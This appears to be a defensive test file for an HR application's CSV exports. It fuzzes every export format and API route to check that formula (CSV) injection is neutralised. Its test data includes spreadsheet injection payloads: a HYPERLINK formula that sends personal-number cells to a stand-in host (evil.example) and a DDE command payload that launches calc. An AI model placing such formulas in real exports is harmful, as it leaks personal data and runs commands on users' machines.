/**
 * Formula injection (CSV injection) in every CSV Bango writes, ADR 032. A cell that starts with
 * = + - @, tab, CR or NUL runs as a formula in Excel: a dependent typed as =HYPERLINK(…&F2:F99) would
 * send everyone's 個人番号 to an outside address with one click.
 *   1. Every format of the registry (CSV_FORMATS), in each of its encodings: generated hostile
 *      cells in every column.
 *   2. Every format through the code that really writes it (the routes, the ZIP, the browser's
 *      mail merge), with what an employee or HR typed; a format without such a producer fails.
 * Each file is opened with csv-parse (RFC 4180, strict quoting). Pass: no cell starts with a
 * formula character, benign cells are unchanged, and each cell reads back (readCsvField) as typed.
 * Replay part 1 with FUZZ_SEED=<seed>.
 */
import { CSV_FORMATS, type CsvEncoding, type CsvFormat, MAIL_MERGE_CSV, mailMergeRows, readCsvField } from '@bango/shared/csv-formats'
import { issueCredentialsResponseSchema } from '@bango/shared/admin-credentials'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type TestContext, createTestContext, imageUpload, signedInEmployee, signedInOperator } from './harness.ts'
import { cardPhoto } from './images.ts'
import { unzip } from './unzip.ts'

const SEED = Number(process.env.FUZZ_SEED ?? Math.floor(Math.random() * 2 ** 31))

/** What a spreadsheet runs as a formula: these first, or after leading blanks (full-width forms too, ADR 032). */
const FORMULA_CELL = /^[=+\-@\t\r\0＝＋－＠]|^[\s\u3000]+[=+\-@＝＋－＠]/
/** A value the writer must leave alone: nothing that could start a formula before its first other character. */
const BENIGN = (value: string) => !/^[\s\u3000']*[=+\-@＝＋－＠\t\r\0]/.test(value)

/** The bytes of a CSV as a spreadsheet reads them: BOM-led UTF-8 or Shift_JIS, strict RFC 4180. */
function open(bytes: Uint8Array, encoding: CsvEncoding): string[][] {
  if (encoding === 'utf-8') expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  const text = new TextDecoder(encoding, { fatal: true }).decode(encoding === 'utf-8' ? bytes.subarray(3) : bytes)
  return parse(text, { relax_column_count: false, relax_quotes: false }) as string[][]
}

/** Problems with one parsed file: a cell that would run, a header changed. */
function formulaCells(format: CsvFormat, records: string[][]): string[] {
  const [header, ...rows] = records
  const problems = header?.join() === format.columns.join() ? [] : [`header ${JSON.stringify(header)}`]
  rows.forEach((row, index) =>
    row.forEach((cell, column) => {
      if (FORMULA_CELL.test(cell)) problems.push(`row ${index + 1} ${format.columns[column]}: ${JSON.stringify(cell)}`)
    }),
  )
  return problems
}

// Pieces of hostile cells: formula starts (ASCII and full-width), what breaks quoting, the
// quote prefix itself, blanks, and ordinary text. All of it Shift_JIS (CP932) can hold.
const piece = fc.constantFrom(
  ...['=', '+', '-', '@', '\t', '\r', '\0', '\n', '\r\n', '＝', '＋', '－', '＠', "'", '"', ',', ';', ' ', '\u3000'],
  ...[
    'SUM(1+1)',
    'HYPERLINK("https://evil.example/?"&F2:F99,"詳細")',
    "cmd|' /C calc'!A0",
    'A1',
    '1980-04-01',
    '123456789018',
    '山田 太郎',
    'ヤマダ',
    '髙①',
    'x',
  ],
)
const hostileCell = fc.oneof(
  { weight: 4, arbitrary: fc.array(piece, { maxLength: 5 }).map((pieces) => pieces.join('')) },
  { weight: 1, arbitrary: fc.string() },
)

describe('every registered CSV format, hostile cells in every column', () => {
  const cases = CSV_FORMATS.flatMap((format) => format.encodings.map((encoding) => [`${format.name} (${encoding})`, format, encoding] as const))

  it.each(cases)('%s: no cell runs, benign cells are unchanged, every cell reads back as typed', (_, format, encoding) => {
    const row = fc.tuple(...format.columns.map(() => hostileCell)).map((cells) => Object.fromEntries(format.columns.map((column, i) => [column, cells[i]!])))
    fc.assert(
      fc.property(fc.array(row, { minLength: 1, maxLength: 4 }), (rows) => {
        const records = open(format.file(rows, encoding).bytes, encoding)
        expect(formulaCells(format, records)).toEqual([])
        expect(records.length).toBe(rows.length + 1)
        rows.forEach((typed, index) => {
          const written = records[index + 1]!
          format.columns.forEach((column, i) => {
            expect(readCsvField(written[i]!), column).toBe(typed[column])
            if (BENIGN(typed[column]!)) expect(written[i], column).toBe(typed[column])
          })
        })
      }),
      { seed: SEED, numRuns: 200 },
    )
  })
})

/**
 * What the employee types for a dependent (an HTTP request, as the SPA sends it; 続柄 is chosen, so
 * its text comes from HR's import, which keeps 続柄 as written), and HR's import for the employee.
 */
const TYPED = {
  dependentName: '=HYPERLINK("https://evil.example/?d="&F2:F99,"詳細")',
  relationship: "@SUM(1+1)*cmd|' /C calc'!A0",
  employeeName: '+1+HYPERLINK("https://evil.example/")',
  employeeNumber: '-1+2',
  email: '=x@example.test',
}

let context: TestContext
let household: Awaited<ReturnType<typeof hostileHousehold>>
beforeAll(async () => {
  context = await createTestContext()
  household = await hostileHousehold()
}, 120_000)
afterAll(async () => {
  await context?.close()
})

/** An employee (name, 社員番号 and e-mail from HR's import) and a dependent they added themselves, both approved. */
async function hostileHousehold() {
  const employee = await signedInEmployee(context, { dependents: [] })
  await context.db.person.update({
    where: { id: employee.employee.id },
    data: { name: TYPED.employeeName, employeeNumber: TYPED.employeeNumber, email: TYPED.email },
  })
  const added = await context.app.inject({
    method: 'POST',
    url: '/api/employee/persons',
    headers: employee.auth,
    payload: { name: TYPED.dependentName, kana: 'ソウゴウ ジロウ', relationship: '02', birthDate: '2015-04-01' },
  })
  expect(added.statusCode, added.body).toBe(201)
  const dependentId = added.json<{ id: string }>().id
  await context.db.person.update({ where: { id: dependentId }, data: { relationship: TYPED.relationship } })
  const photo = await cardPhoto()
  for (const personId of [employee.employee.id, dependentId]) {
    for (const side of ['front', 'back']) {
      const body = imageUpload({ role: 'number', slot: 0, side, type: 'my_number_card' }, photo)
      const uploaded = await context.app.inject({
        method: 'POST',
        url: `/api/employee/persons/${personId}/images`,
        headers: { ...employee.auth, ...body.headers },
        payload: body.payload,
      })
      expect(uploaded.statusCode, uploaded.body).toBe(201)
    }
    const registered = await context.app.inject({
      method: 'POST',
      url: `/api/employee/persons/${personId}/registration`,
      headers: employee.auth,
      payload: { numberDocument: { type: 'my_number_card', hasBack: true }, identity: null },
    })
    expect(registered.statusCode, registered.body).toBe(200)
  }
  expect((await context.app.inject({ method: 'POST', url: '/api/employee/submission', headers: employee.auth })).statusCode).toBe(200)
  const admin = await signedInOperator(context, { role: 'administrator', companyId: employee.company.id })
  for (const personId of [employee.employee.id, dependentId]) {
    const url = `/api/admin/campaigns/${employee.campaign.id}/employees/${employee.employee.id}/persons/${personId}/approve`
    const approved = await context.app.inject({ method: 'POST', url, headers: admin.headers })
    expect(approved.statusCode, approved.body).toBe(200)
  }
  return { ...employee, admin, dependentId }
}

const download = async (url: string) => {
  const response = await context.app.inject({ method: 'GET', url, headers: household.admin.headers })
  expect(response.statusCode, response.body).toBe(200)
  return response.rawPayload
}

/** The typed values each producer's file must read back, by column. */
type Expected = Record<string, string[]>

/** Each registered format as the product writes it, by the format's name. */
const PRODUCERS: Record<string, (encoding: CsvEncoding) => Promise<{ bytes: Uint8Array; expected: Expected }>> = {
  payroll: async (encoding) => ({
    bytes: await download(`/api/admin/campaigns/${household.campaign.id}/exports/payroll.csv?encoding=${encoding}`),
    expected: { 社員番号: [TYPED.employeeNumber], 氏名: [TYPED.employeeName, TYPED.dependentName], 続柄: [TYPED.relationship] },
  }),
  'documents manifest': async () => {
    const files = await unzip(await download(`/api/admin/campaigns/${household.campaign.id}/exports/documents.zip`))
    return {
      bytes: files.get('manifest.csv')!.data,
      expected: { 社員番号: [TYPED.employeeNumber], 氏名: [TYPED.employeeName, TYPED.dependentName], 続柄: [TYPED.relationship] },
    }
  },
  'audit log': async () => ({
    bytes: await download(`/api/admin/audit-events.csv?companyId=${household.company.id}`),
    // The approval of the dependent names them as its target.
    expected: { 対象: [`${TYPED.dependentName} (${household.dependentId})`] },
  }),
  'employee statuses': async () => ({
    bytes: await download(`/api/admin/campaigns/${household.campaign.id}/employees.csv`),
    expected: { 社員番号: [TYPED.employeeNumber], 氏名: [TYPED.employeeName], メールアドレス: [TYPED.email] },
  }),
  'import template': async () => ({ bytes: await download('/api/admin/import-template.csv'), expected: {} }),
  // The browser writes it from the issue's answer, with the shared writer the console imports.
  'mail merge': async (encoding) => {
    const issued = await context.app.inject({
      method: 'POST',
      url: `/api/admin/campaigns/${household.campaign.id}/credentials`,
      headers: household.admin.headers,
      payload: { employeeIds: [household.employee.id] },
    })
    expect(issued.statusCode, issued.body).toBe(200)
    const answer = issueCredentialsResponseSchema.parse(issued.json())
    return {
      bytes: MAIL_MERGE_CSV.file(mailMergeRows(answer.credentials), encoding).bytes,
      expected: { 社員番号: [TYPED.employeeNumber], 氏名: [TYPED.employeeName], メールアドレス: [TYPED.email] },
    }
  },
  // Last in the registry: disposing of the dependent leaves the producers before it their household.
  'disposal records': async () => {
    const url = `/api/admin/campaigns/${household.campaign.id}/employees/${household.employee.id}/persons/${household.dependentId}/dispose`
    const disposed = await context.app.inject({ method: 'POST', url, headers: household.admin.headers, payload: { reason: '扶養から外れたため' } })
    expect(disposed.statusCode, disposed.body).toBe(200)
    return {
      bytes: await download(`/api/admin/companies/${household.company.id}/disposals.csv`),
      // A dependent's record carries the household's 社員番号.
      expected: { 氏名: [TYPED.dependentName], 社員番号: [TYPED.employeeNumber], 続柄: [TYPED.relationship] },
    }
  },
  // The payroll export above held both persons: one line each.
  'access report': async () => {
    const window = `from=${encodeURIComponent(new Date(Date.now() - 3_600_000).toISOString())}&to=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}`
    return {
      bytes: await download(`/api/admin/companies/${household.company.id}/access-report.csv?${window}`),
      expected: { 対象者: [TYPED.dependentName, TYPED.employeeName], 社員番号: [TYPED.employeeNumber] },
    }
  },
}

describe('every registered CSV format as the product writes it', () => {
  it('has a producer for every format', () => {
    expect(CSV_FORMATS.map((format) => format.name).filter((name) => !PRODUCERS[name])).toEqual([])
  })

  const cases = CSV_FORMATS.flatMap((format) => format.encodings.map((encoding) => [`${format.name} (${encoding})`, format, encoding] as const))

  it.each(cases)('%s: what a person typed reads back, and no cell runs', async (_, format, encoding) => {
    const { bytes, expected } = await PRODUCERS[format.name]!(encoding)
    const records = open(bytes, encoding)
    expect(formulaCells(format, records)).toEqual([])
    expect(records.length).toBeGreaterThan(1)
    for (const [column, values] of Object.entries(expected)) {
      const index = format.columns.indexOf(column)
      const read = records.slice(1).map((row) => readCsvField(row[index]!))
      for (const value of values) expect(read, column).toContain(value)
    }
  })
})
